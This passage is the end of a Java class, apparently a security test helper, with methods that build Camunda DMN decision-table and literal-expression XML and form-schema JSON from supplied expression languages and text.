    private static String decision(
            String inputLanguage,
            String input,
            String testLanguage,
            String test,
            String outputLanguage,
            String output) {
        return box("<decisionTable id='table'><input id='in'><inputExpression id='ie' " + inputLanguage + "><text>"
                + escaped(input) + "</text></inputExpression></input><output id='out' name='limit' typeRef='integer'/>"
                + "<rule id='rule_1'><inputEntry id='te' " + testLanguage + "><text>" + escaped(test)
                + "</text></inputEntry><outputEntry id='oe' " + outputLanguage + "><text>" + escaped(output)
                + "</text></outputEntry></rule></decisionTable>");
    }

    private static String literal(String language, String text) {
        return box("<variable id='v' name='r'/><literalExpression id='le' " + language + "><text>" + escaped(text)
                + "</text></literalExpression>");
    }

    private static String box(String inside) {
        return "<definitions xmlns='" + DMN + "' xmlns:camunda='http://camunda.org/schema/1.0/dmn' id='definitions_y'"
                + " name='Prov' namespace='x'><decision id='hostile-decision' name='Prov' camunda:historyTimeToLive='1'>"
                + inside + "</decision></definitions>";
    }

    private static String form(String component) {
        return ("{'id': 'twin', 'type': 'default', 'schemaVersion': 18, 'components': [" + component + "]}")
                .replace('\'', '"');
    }

    private static String field(String type, String properties) {
        return "{'id': 'field_x', 'type': '" + type + "', " + properties + "}";
    }
}
